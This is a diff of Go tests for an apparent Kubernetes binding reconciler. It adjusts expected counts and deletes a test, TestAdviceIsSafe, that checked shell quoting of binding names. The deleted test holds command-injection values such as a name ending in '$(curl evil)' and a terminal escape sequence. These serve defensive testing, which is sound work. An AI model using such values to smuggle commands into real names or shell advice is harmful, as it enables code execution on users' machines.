@@ -20,7 +20,7 @@ func TestHeldBindingsKeepNoLeaver(t *testing.T) {
 			w := reconciletest.NewWorld(t)
 			w.MustApply(reconciletest.Parse(t, fmt.Sprintf(groups, roles)+"  - {name: zed, groups: [g1, g2]}\n"))
 			held := w.Holding(fmt.Sprintf(groups, "") + zed)
-			if len(held) != 4 || len(w.Served("alice")) != 2 {
+			if len(held) != 2 || len(w.Served("alice")) != 2 {
 				t.Errorf("held %q, alice has %q", held, w.Served("alice"))
 			}
 			if got := w.Served("zed"); got != nil || w.Users["zed"] != nil {
@@ -204,24 +204,8 @@ func TestPlantedReplacement(t *testing.T) {
 		w.Bindings[p.Object()] = p
 	}
 	w.Holding(fmt.Sprintf(text, "edit"))
-	if got := w.Served("a"); len(got) != 2 {
-		t.Errorf("a has %q", got)
-	}
-}
-
-// TestAdviceIsSafe: whoever may make bindings chooses what somebody is advised to paste into a shell.
-func TestAdviceIsSafe(t *testing.T) {
-	for name, want := range map[string]string{
-		"certsync:test:user:a:x":             "RoleBinding/staging/certsync:test:user:a:x",
-		"certsync:test:user:a:x$(curl evil)": "'RoleBinding/staging/certsync:test:user:a:x$(curl evil)'",
-		"certsync:test:user:a:it's":          `'RoleBinding/staging/certsync:test:user:a:it'"'"'s'`,
-		"certsync:test:user:a:\x1b[2J":       `'"RoleBinding/staging/certsync:test:user:a:\x1b[2J"'`,
-	} {
-		w := reconciletest.NewWorld(t)
-		w.Bindings["RoleBinding staging/"+name] = reconcile.Binding{Kind: reconcile.RoleBinding, Namespace: "staging", Name: name, UID: "u", ResourceVersion: "1"}
-		if got := w.Conflicts("users: [{name: b}]"); !strings.Contains(strings.Join(got, " "), "--adopt "+want+")") {
-			t.Errorf("%s: %q", name, got)
-		}
+	if got := w.Served("a"); len(got) != 2 || len(w.Served("mallory")) > 0 {
+		t.Errorf("a has %q, mallory %q", got, w.Served("mallory"))
 	}
 }
 
